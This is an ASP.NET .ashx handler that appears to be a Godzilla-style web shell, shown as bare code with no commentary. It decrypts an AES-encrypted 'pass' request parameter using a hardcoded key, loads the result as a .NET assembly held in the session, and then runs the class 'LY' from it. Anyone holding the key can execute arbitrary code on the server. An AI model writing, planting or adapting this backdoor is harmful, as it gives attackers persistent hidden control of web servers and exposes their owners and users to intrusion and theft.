<%@ Language="C#" Class="Handler1" %>
using System;
using System.Web;
using System.Web.SessionState;
public class Handler1 : IHttpHandler, IRequiresSessionState {
    public void ProcessRequest(HttpContext context) {
        string key = "3c6e0b8a9c15224a";
        byte[] data = Convert.FromBase64String(context.Request["pass"]);
        data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(
            System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key))
            .TransformFinalBlock(data, 0, data.Length);
        if (context.Session["payload"] == null) {
            context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly)
                .GetMethod("Load", new Type[] { typeof(byte[]) }).Invoke(null, new object[] { data });
        } else {
            object o = ((System.Reflection.Assembly)context.Session["payload"]).CreateInstance("LY");
            o.Equals(context); o.Equals(data); o.ToString();
        }
    }
    public bool IsReusable { get { return false; } }
}
